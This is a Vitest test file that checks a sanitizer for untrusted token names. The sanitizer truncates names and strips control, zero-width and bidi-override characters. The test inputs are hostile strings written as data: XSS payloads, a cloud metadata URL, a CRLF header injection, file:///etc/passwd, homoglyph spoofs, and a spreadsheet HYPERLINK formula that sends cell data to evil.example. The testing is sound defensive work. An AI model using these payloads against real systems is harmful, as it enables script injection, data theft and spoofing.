// @vitest-environment happy-dom
import { expect, test } from 'vitest'
import { toPlainName } from './UntrustedText.tsx'

test.each([
  ['USDC', 'USDC'],
  ['US\u202eDC', 'USDC'],
  ['a\u0000b\u200bc', 'abc'],
  ['x'.repeat(40), `${'x'.repeat(24)}…`],
  ['\u200b\u200b', 'unnamed'],
  ['<img src=x onerror=alert(1)>', '<img src=x onerror=alert…'],
  ['USD\u0421', 'USD\u0421'],
  ['data:text/html,<script>parent.__xss=1</script>', 'data:text/html,<script>p…'],
  ['http://169.254.169.254/latest/meta-data/', 'http://169.254.169.254/l…'],
  ['file:///etc/passwd', 'file:///etc/passwd'],
])('%j is shown as %j', (text, shown) => {
  expect(toPlainName(text)).toBe(shown)
})

/** Names that a stranger may give a token or a drop. */
const hostile = [
  '<script>window.__xss=1</script>',
  '${window.__xss=1}',
  '\u2028\u2029window.__xss=1',
  'USDC\u202e\u2066\u2069 fake',
  '\u200bUSDC\u200b',
  `U${'\u0300'.repeat(150)}S`,
  'A'.repeat(5_000),
  '\u0000\u0001\u001b[31mred',
  '\r\nSet-Cookie: a=b',
  '=HYPERLINK("http://evil.example?x="&A1,"x")',
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.__xss=1'/>",
  'https://user:pass@evil.example/a.png',
  'vitalik\u200d.eth',
]

test.each(hostile)('%j is short, on one line, and holds nothing that turns or hides text', (name) => {
  const shown = toPlainName(name)
  expect([...shown].length).toBeLessThanOrEqual(25)
  // oxlint-disable-next-line no-control-regex -- control characters are what is looked for
  expect(shown).not.toMatch(/[\u0000-\u001f\u200b-\u200f\u2028-\u202e\u2066-\u2069]/)
})
